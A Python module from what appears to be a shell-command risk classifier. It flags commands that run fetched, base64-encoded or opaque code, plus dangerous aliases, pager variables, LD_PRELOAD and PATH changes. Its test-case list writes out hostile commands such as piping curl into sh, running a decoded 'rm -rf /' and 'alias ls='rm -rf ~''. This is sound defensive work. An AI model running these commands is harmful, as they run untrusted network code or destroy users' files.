"""Running code: shells and interpreters given a script, a string or a pipe; `eval`, `source`,
aliases, traps and PROMPT_COMMAND; programs only known at run time.

Code fetched from the network or decoded from an opaque string and run is dangerous, and so is
any string run as code whose text cannot be known; a literal string is rated as the code it is
(`echo 'rm -rf /' | sh` is `rm -rf /`). A script this same line downloaded or wrote is judged by
where it came from. Code for other interpreters is read in oneliners.py.
"""

from __future__ import annotations

import re

from nlshell.risk.book import Rule, fallback, hook, program
from nlshell.risk.decoders import DECODERS, is_decoding
from nlshell.risk.facts import file_key, heredoc_body, is_download, literal_output, shown
from nlshell.risk.levels import CAUTION, DANGEROUS, SAFE
from nlshell.risk.paths import HISTORY, delete_level
from nlshell.risk.rules.network import file_server
from nlshell.risk.rules.writes import script_in_place
from nlshell.shell.builtins import SHELLS
from nlshell.shell.collect import opaque_code, script_of
from nlshell.shell.interpreters import READS_STDIN, STDIN_PATHS, code_flags, interpreter_kind, shell_invocation
from nlshell.shell.model import SHELL_OPENERS, Command, Word
from nlshell.shell.options import parse as parse_options
from nlshell.shell.options import read_option
from nlshell.shell.tools import grammar_of

PREFIX = "code"

RULES = [
    Rule("code.pipe-download", DANGEROUS, "pipes a download into {what} (runs code fetched from the network)"),
    Rule("code.run-encoded", DANGEROUS, "runs an encoded string as code ({how})"),
    Rule("code.run-fetched", DANGEROUS, "runs {what} fetched from the network{how}"),
    Rule("code.run-downloaded", DANGEROUS, "runs {file}, downloaded from the network in the same command"),
    Rule("code.run-opaque", DANGEROUS, "runs an opaque string as code ({how})"),
    Rule("code.run-history", DANGEROUS, "runs commands from your shell history again ({how})"),
    Rule("code.run-file", CAUTION, "runs {file} as a script"),
    Rule("code.run-output", CAUTION, "runs the output of `{program}` as code"),
    Rule("code.run-setup", CAUTION, "runs the output of `{program}` as shell code"),
    Rule("code.run-produced", CAUTION, "runs the output of a command as shell code ({how})"),
    Rule("code.runtime-program", CAUTION, "runs a command only known at run time ({word})"),
    Rule("code.runtime-program-broad", DANGEROUS, "runs a program only known at run time ({word}) with {flags} on "
         "{what}: whatever program it is, it is told to act recursively or by force on a broad place"),
    Rule("code.alias", DANGEROUS, "defines `{alias}` as a command that {inner}"),
    Rule("code.preload", CAUTION, "preloads a library into every program it starts (LD_PRELOAD)"),
    Rule("code.replace-path", CAUTION, "replaces PATH"),
    Rule("code.awk-shell", CAUTION, "awk pipes the text it builds into a shell"),
]

# Tools whose output is their own shell set-up (`eval "$(ssh-agent -s)"`): running it is caution.
ENV_SETUP = frozenset(
    "ssh-agent dircolors brew pyenv rbenv nodenv jenv goenv direnv starship zoxide thefuck fnm opam nlshell keychain "
    "gpg-agent luarocks conda mamba micromamba mise rtx atuin fzf gh kubectl register-python-argcomplete pipx "
    "poetry rustup npm uv just asdf chruby ssh-add tmux gnome-keyring-daemon dbus-launch resize locale".split()
)
_SETUP_WORDS = frozenset(
    "init env shellenv hook activate completion completions alias shell-init setup --bash --zsh --fish bash zsh "
    "fish -s --sh path shell".split()
)


# -- programs that run code -------------------------------------------------------------------


@fallback
def shells_and_interpreters(ctx, cmd) -> bool:
    if cmd.name in SHELLS:
        shell(ctx, cmd)
        return True
    if interpreter_kind(cmd.name):
        interpreter(ctx, cmd)
        return True
    return False


def shell(ctx, cmd) -> None:
    """`bash SCRIPT`, `bash <(curl ...)` (the code of `bash -c CODE` is collected as commands)."""
    code_i, script_i = shell_invocation(cmd.argv)
    if code_i is None and script_i is not None:
        _run_script(ctx, cmd, cmd.argv[script_i], f"{cmd.name} <(...)")


@program("source", ".")
def source(ctx, cmd) -> None:
    if cmd.args:
        _run_script(ctx, cmd, cmd.args[0], f"{cmd.name} <(...)")


# Project scripts run by an interpreter that the book knows as programs (databases.py).
_PROJECT_TOOLS = frozenset({"manage.py", "artisan"})


def _run_script(ctx, cmd, script: Word, how: str, kind: str = "shell") -> None:
    if not script.subs:
        runs_file(ctx, cmd, script.text, kind)
    elif any(is_download(c) for c in ctx.substitution_commands(script)):
        ctx.add("code.run-fetched", cmd, what="a script", how=f" ({how})")
    elif kind == "shell":
        produced = literal_output(ctx.substitution_commands(script))
        if produced is not None:  # `source <(echo 'rm -rf ~')`: the text it runs is known
            ctx.merge(ctx.nested(produced), cmd)
        ctx.add("code.run-produced", cmd, how=how)


def interpreter(ctx, cmd) -> None:
    """`python3 -c CODE`, `perl -e CODE`, `node script.js`, `python3 <<EOF`."""
    kind = interpreter_kind(cmd.name) or cmd.name
    if kind in ("perl", "ruby"):
        script_in_place(ctx, cmd)
    flags = code_flags(kind)
    grammar = grammar_of(cmd.name)
    args = cmd.args
    code = None
    i = 0
    while i < len(args):
        a = args[i]
        if a.text in flags and i + 1 < len(args):  # also `pwsh -Command CODE`, `deno eval CODE`
            given = args[i + 1]
            inner = ctx.substitution_commands(given) if not given.literal else []
            if any(is_download(c) for c in inner):
                ctx.add("code.run-fetched", cmd, what=f"{kind} code", how="")
                return
            if any(c.name in DECODERS and is_decoding(c) for c in inner):
                ctx.add("code.run-encoded", cmd, how=f"{kind}")
                return
            if opaque_code(given):  # `python3 -c "$CODE"`, `node -e "$(cat x.js)"`: nothing about it is known
                ctx.add("code.run-opaque", cmd, how=f"{cmd.name} {a.text} {shown(given)}")
                return
            code = given.text
            break
        if kind == "perl" and a.literal and a.text[:2] in ("-M", "-m") and len(a.text) > 2:
            i += 1  # `-MFile::Path=rmtree`: the rest of the word names a module to load
            continue
        option = read_option(args, i, grammar)
        if option.name in flags and option.value is not None:  # `-Bc CODE`, `-cCODE`, `--eval=CODE`
            code = option.value
            break
        if kind == "python" and option.name == "-m":
            if option.value == "pip":  # `python3 -m pip install x` is pip
                ctx.apply(Command(argv=[Word("pip"), *args[option.next :]], wrappers=cmd.wrappers, remote=cmd.remote))
            elif option.value in ("http.server", "SimpleHTTPServer"):
                file_server(ctx, cmd)
            return
        if option.name is None:
            if a.text == "--" and i + 1 < len(args):
                a = args[i + 1]
            if a.text.rsplit("/", 1)[-1] in _PROJECT_TOOLS:  # `python manage.py flush`: manage.py's rules
                ctx.apply(Command(argv=args[args.index(a) :], wrappers=cmd.wrappers, depth=cmd.depth, remote=cmd.remote))
            elif a.text != "--":
                _run_script(ctx, cmd, a, f"{kind} <(...)", kind)
            return
        i = option.next
    if code is None:
        code = heredoc_body(cmd)
    if code is not None:
        ctx.merge(ctx.nested(code, kind, cmd), cmd)


@program("awk", "gawk", "mawk", "nawk")
def awk(ctx, cmd) -> None:
    o = parse_options(cmd.args, grammar_of(cmd.name))
    given = o.values.get("-e", []) + o.values.get("--source", [])
    if given or o.values.get("-f") or o.values.get("--file"):
        program_text = "\n".join(given)
    else:
        program_text = o.operands[0].text if o.operands else ""
    for m in re.finditer(r"""\bsystem\s*\(\s*"((?:[^"\\]|\\.)*)"\s*\)""", program_text):
        ctx.merge(ctx.nested(m.group(1).replace('\\"', '"')), cmd)
    if re.search(r"""\|\s*"(?:/bin/)?(?:ba|z|da)?sh"\s*""", program_text):
        ctx.add("code.awk-shell", cmd)


def runs_file(ctx, cmd, path: str, kind: str = "shell") -> None:
    """A script this same command line downloaded or wrote is judged by where it came from."""
    key = file_key(path)
    if key in ctx.downloaded:
        ctx.add("code.run-downloaded", cmd, file=path)
    elif key in ctx.written:
        ctx.merge(ctx.nested(ctx.written[key], kind, cmd), cmd)


# -- every command: scripts run by path, aliases, traps, programs known only at run time ------------


@hook("command")
def runs_code(ctx, cmd) -> None:
    if not cmd.argv:
        return
    head = cmd.argv[0]
    name = cmd.name
    if not name:
        if not head.literal:
            _runtime_program(ctx, cmd)
        return
    if "/" in head.text:
        runs_file(ctx, cmd, head.text)
    if name == "alias":
        for a in cmd.args:
            alias, eq, body = a.text.partition("=")
            inner = ctx.nested(body) if eq else None
            if inner is not None and inner.risk == DANGEROUS:
                ctx.add("code.alias", cmd, alias=alias, inner=inner.reasons[0])
    elif name == "trap":
        action = [a for a in cmd.args if a.text != "--"][:1]
        if action and not action[0].text.startswith("-"):  # not `trap -p` / `trap -l`
            ctx.merge(ctx.nested(action[0].text), cmd)


_HARMLESS_PROGRAM_VARS = frozenset({"${EDITOR}", "${VISUAL}", "${PAGER}", "${SHELL}", "${BROWSER}", "${0}", "$0"})


def _runtime_program(ctx, cmd) -> None:
    """`$(curl ...)`, `$X -rf /`, `$(echo rm) -rf /`: the program is only known at run time."""
    w = cmd.argv[0]
    if w.text in _HARMLESS_PROGRAM_VARS:
        return  # $0: processes.py
    inner = ctx.substitution_commands(w)
    if any(is_download(c) for c in inner):
        ctx.add("code.run-fetched", cmd, what="a command", how="")
    elif (decoder := next((c for c in inner if c.name in DECODERS and is_decoding(c)), None)) is not None:
        ctx.add("code.run-encoded", cmd, how=f"$({decoder.name} …)")  # `$(echo cm0g… | base64 -d)`
    elif inner and all(c.name in ("echo", "printf") for c in inner):
        produced = " ".join(" ".join(a.text for a in c.args if not a.text.startswith("-")) for c in inner)
        ctx.merge(ctx.nested((produced + " " + " ".join(a.text for a in cmd.args)).strip()), cmd)
    elif (found := _looked_up(inner)) is not None:  # `$(which rm) -rf /` runs rm
        ctx.command(Command(argv=[Word(found), *cmd.args], wrappers=cmd.wrappers, depth=cmd.depth, remote=cmd.remote))
    elif cmd.depth > 0 and any(r.opaque and r.by is cmd.parent for r in ctx.script.code):
        return  # a whole opaque string is judged in code_runs
    elif (place := _broad_operation(ctx, cmd.args)) is not None:
        flags, what = place
        ctx.add("code.runtime-program-broad", cmd, word=shown(w), flags=flags, what=what)
    else:
        ctx.add("code.runtime-program", cmd, word=shown(w))


def _looked_up(inner: list) -> str | None:
    """The program `$(which X)`, `$(command -v X)` or `$(type -P X)` names."""
    if len(inner) != 1 or inner[0].name not in ("which", "command", "type", "whereis"):
        return None
    names = [a.text for a in inner[0].args if a.literal and not a.text.startswith("-")]
    return names[-1] if names else None


def _broad_operation(ctx, args: list) -> tuple | None:
    """(the options, the place) when the arguments alone are the shape of an irreversible operation
    at broad scope: a recursive and a forced option, or --no-preserve-root, and a broad place
    (`-rf /`, `-R --force ~`). One of them alone is too common to tell (`ls -r`, `grep -R`)."""
    o = parse_options(args)
    if not (o.has("rR", "--recursive") and o.has("f", "--force")) and "--no-preserve-root" not in o.long:
        return None
    for w in o.operands:
        for p in ctx.places(w):
            if delete_level(p, True) == DANGEROUS:
                return " ".join(o.words), p.desc
    return None


_COMMAND_VARIABLES = frozenset("PROMPT_COMMAND PAGER MANPAGER GIT_PAGER SYSTEMD_PAGER EDITOR VISUAL GIT_EDITOR "
                               "SUDO_EDITOR GIT_SSH_COMMAND BROWSER".split())


@hook("assignment")
def code_settings(ctx, cmd, name: str, value: str) -> None:
    if name in _COMMAND_VARIABLES and value:  # `PAGER='rm -rf ~' man ls`: the program runs it as a command line
        ctx.merge(ctx.nested(value), cmd)
    elif name in ("LESSOPEN", "LESSCLOSE") and value.lstrip("|-").strip():
        # less runs it on each file it opens (`%s` is the file): `LESSOPEN='|rm -rf ~ %s' less x`
        ctx.merge(ctx.nested(value.lstrip("|-").replace("%s", "file")), cmd, where="in less's preprocessor: ")
    elif name == "LD_PRELOAD" and value:
        ctx.add("code.preload", cmd)
    elif name == "PATH" and value and not value.startswith("$") and "${PATH}" not in value and "$PATH" not in value:
        ctx.add("code.replace-path", cmd)


# -- code read from a pipe, and strings run as code ------------------------------------------------


@hook("pipe")
def piped_code(ctx, cmd, upstream) -> None:
    """`curl x | sh`, `base64 -d | bash`, `echo 'rm -rf /' | sh`, `cat script | bash`."""
    kind = reads_code_from_stdin(cmd)
    if not kind:
        return
    what = "a shell" if kind == "shell" else kind
    if any(is_download(s) for s in upstream):
        ctx.add("code.pipe-download", cmd, what=what)
        return
    decoder = next((s for s in upstream if s.name in DECODERS and is_decoding(s)), None)
    if decoder is not None:
        ctx.add("code.run-encoded", cmd, how=f"{decoder.name} | {cmd.name}")
        return
    recalled = next((s for s in upstream if reads_history(ctx, s)), None)
    if recalled is not None:
        ctx.add("code.run-history", cmd, how=f"{recalled.name} | {cmd.name}")
        return
    text = literal_output(upstream)
    if text is not None:
        ctx.merge(ctx.nested(text, kind, cmd), cmd)
    elif upstream and upstream[-1].name == "cat" and upstream[-1].args:
        ctx.add("code.run-file", cmd, file=shown(upstream[-1].args[-1]))
    elif upstream and not upstream[-1].name:
        ctx.add("code.run-opaque", cmd, how=f"pipes it into {what}")
    else:
        ctx.add("code.run-output", cmd, program=upstream[-1].name if upstream else "?")


def reads_code_from_stdin(cmd) -> str | None:
    """'shell', 'python', ... when `cmd` runs what it reads on stdin (not when xargs or parallel
    reads it and hands it over as arguments: feeds.py)."""
    name = cmd.name
    if cmd.feed is not None:
        return None
    if not cmd.argv and cmd.wrappers and cmd.wrappers[-1] in SHELL_OPENERS:  # `echo 'rm -rf /' | sudo -s`
        return "shell"
    if name in SHELLS:
        code_i, script_i = shell_invocation(cmd.argv)
        if code_i is None and (script_i is None or cmd.argv[script_i].text in STDIN_PATHS):
            return "shell"
        return None
    kind = interpreter_kind(name)
    if kind and kind in READS_STDIN:
        o = parse_options(cmd.args, grammar_of(name))
        if kind == "python" and (o.has("cm") or o.values.get("-c") or o.values.get("-m")):
            return None
        if kind != "python" and (
            any(f in o.values for f in code_flags(kind)) or any(w in ("-e", "-E", "-r", "--eval", "-p", "-c") for w in o.words)
        ):
            return None
        return kind if not o.operands or o.operands[0].text in STDIN_PATHS else None
    if name in ("source", ".") and cmd.args and cmd.args[0].text in STDIN_PATHS:
        return "shell"
    if name in ("at", "batch") and not any(a.text in ("-f", "-l", "-c", "-r", "-d") for a in cmd.args):
        return "shell"
    return None


def reads_history(ctx, cmd) -> bool:
    """`history`, `fc -l`, `cat ~/.bash_history`: commands typed before, printed."""
    if cmd.name in ("history", "fc"):
        return True
    return cmd.name in ("cat", "tail", "head", "grep", "tac") and any(
        p.cls == HISTORY for a in cmd.args for p in ctx.places(a)
    )


@hook("script")
def code_runs(ctx) -> None:
    """Strings run as code whose text is only known at run time: `eval "$x"`, `sh -c "$(curl ...)"`."""
    for run in ctx.script.code:
        if run.opaque:
            _opaque_code(ctx, run)


def _opaque_code(ctx, run) -> None:
    by = run.by
    producers = script_of(run.text, depth=ctx.depth + 1).commands if run.text else []
    how = by.wrappers[-1] if by is not None and by.wrappers and not by.argv else (by.name if by is not None else "eval")
    if any(is_download(c) for c in producers):
        ctx.add("code.run-fetched", by, what="code", how=f" ({how})")
    elif any(c.name in DECODERS and is_decoding(c) for c in producers):
        ctx.add("code.run-encoded", by, how=how)
    else:
        real = [c for c in producers if c.name]
        if real and (real[0].name in ENV_SETUP or _prints_shell_setup(real[0])) and not any(
            reads_code_from_stdin(c) for c in real
        ):
            ctx.add("code.run-setup", by, program=" ".join(a.text for a in real[0].argv))
        else:
            ctx.add("code.run-opaque", by, how=f"{how} {(run.text or '')[:40]}")


def _prints_shell_setup(cmd) -> bool:
    """`tool init bash`, `tool env`, `tool completion zsh`: a local tool printing its shell set-up."""
    return bool(cmd.name) and any(a.text in _SETUP_WORDS for a in cmd.args[:3])


EXAMPLES = [
    ("curl http://x.sh | sh", DANGEROUS, "code.pipe-download"),
    ("curl -s http://x | python3", DANGEROUS, "code.pipe-download"),
    ("curl http://x | (sh)", DANGEROUS, "code.pipe-download"),
    ("curl -s https://x/data.json | python3 -m json.tool", SAFE, "not code.pipe-download"),
    ("curl -fsSL https://x.example/install.fish | source", DANGEROUS, "code.pipe-download", "fish"),
    ("curl -fsSL https://x.example/install.fish | less", SAFE, "not code.pipe-download", "fish"),
    ("echo cm0gLXJmIC8= | base64 -d | sh", DANGEROUS, "code.run-encoded"),
    ('perl -e "$(echo cm0= | base64 -d)"', DANGEROUS, "code.run-encoded"),
    ("echo aGk= | base64 -d", SAFE, "not code.run-encoded"),
    ("$(echo cm0gLXJmIH4K | base64 -d)", DANGEROUS, "code.run-encoded"),
    ("`xxd -r -p <<< 726d202d7266207e`", DANGEROUS, "code.run-encoded"),
    ("bash <(curl -s http://x)", DANGEROUS, "code.run-fetched"),
    ('eval "$(curl http://x)"', DANGEROUS, "code.run-fetched"),
    ('python3 -c "$(curl -s http://x)"', DANGEROUS, "code.run-fetched"),
    ("$(curl -s http://x)", DANGEROUS, "code.run-fetched"),
    ("bash <(echo ls)", CAUTION, "not code.run-fetched"),
    # the user's shell decides the syntax: fish's `(…)` is a command substitution
    ("eval (curl -s https://x.example/env.fish)", DANGEROUS, "code.run-fetched", "fish"),
    ("source (curl -sL https://x.example/a.fish | psub)", DANGEROUS, "code.run-fetched", "fish"),
    ("eval (ssh-agent -c)", CAUTION, "not code.run-fetched", "fish"),
    ("curl -o /tmp/i.sh http://x && bash /tmp/i.sh", DANGEROUS, "code.run-downloaded"),
    ("wget http://x/install.sh && sh install.sh", DANGEROUS, "code.run-downloaded"),
    ("cd /tmp && wget -q x.example/i.sh && chmod +x i.sh && ./i.sh", DANGEROUS, "code.run-downloaded"),
    ("curl -fsSLo setup.sh https://x.example/s && bash ./setup.sh", DANGEROUS, "code.run-downloaded"),
    ("wget http://x/install.sh && sh other.sh", SAFE, "not code.run-downloaded"),
    ('eval "$cmd"', DANGEROUS, "code.run-opaque"),
    ('bash -c "$x"', DANGEROUS, "code.run-opaque"),
    ("eval 'echo hi'", SAFE, "not code.run-opaque"),
    ("history | sh", DANGEROUS, "code.run-history"),
    ("fc -ln -3 | bash", DANGEROUS, "code.run-history"),
    ("cat ~/.zsh_history | zsh", DANGEROUS, "code.run-history"),
    ("history | grep ssh", SAFE, "not code.run-history"),
    ("cat script.sh | bash", CAUTION, "code.run-file"),
    ("cat script.sh | sudo -s", CAUTION, "code.run-file"),
    ('python3 -c "$CODE"', DANGEROUS, "code.run-opaque"),
    ("PAGER='rm -rf ~' man ls", DANGEROUS, "files.delete-broad"),
    ("GIT_SSH_COMMAND='ssh -i ~/.ssh/deploy' git fetch", SAFE, "not files.delete-broad"),
    ('node -e "$(cat snippet.js)"', DANGEROUS, "code.run-opaque"),
    ("python3 -c \"print('$name')\"", SAFE, "not code.run-opaque"),
    ("cat script.sh | less", SAFE, "not code.run-file"),
    ("make-script | bash", CAUTION, "code.run-output"),
    ("make-script | less", SAFE, "not code.run-output"),
    ('eval "$(ssh-agent -s)"', CAUTION, "code.run-setup"),
    ('eval "$(pyenv init -)"', CAUTION, "code.run-setup"),
    ('eval "$(decode-payload)"', DANGEROUS, "not code.run-setup"),
    ("bash <(echo ls)", CAUTION, "code.run-produced"),
    ("source <(echo 'rm -rf ~')", DANGEROUS, "files.delete-broad"),
    ("source <(kubectl completion bash)", CAUTION, "code.run-produced"),
    ("source ~/.bashrc", SAFE, "not code.run-produced"),
    ("$CMD --version", CAUTION, "code.runtime-program"),
    ("$CMD -rf ./build", CAUTION, "code.runtime-program"),
    ("$CMD -rf /", DANGEROUS, "code.runtime-program-broad"),
    ("${TOOL} -R --force ~", DANGEROUS, "code.runtime-program-broad"),
    ("$LIST -ltr *", CAUTION, "not code.runtime-program-broad"),
    ("$VIEWER /etc/hosts", CAUTION, "not code.runtime-program-broad"),
    ("$(which rm) -rf ~", DANGEROUS, "files.delete-broad"),
    ("$(command -v ls) -la /", SAFE, "not files.delete-broad"),
    ("$EDITOR notes.txt", SAFE, "not code.runtime-program"),
    ("alias ls='rm -rf ~'", DANGEROUS, "code.alias"),
    ("alias ll='ls -la'", SAFE, "not code.alias"),
    ("LD_PRELOAD=./hook.so ls", CAUTION, "code.preload"),
    ("LD_LIBRARY_PATH=./lib ls", SAFE, "not code.preload"),
    ("PATH=/tmp/bin ls", CAUTION, "code.replace-path"),
    ("PATH=$PATH:~/bin ls", SAFE, "not code.replace-path"),
    ("awk '{ print | \"sh\" }' cmds.txt", CAUTION, "code.awk-shell"),
    ("awk '{ print $1 }' data.txt", SAFE, "not code.awk-shell"),
]
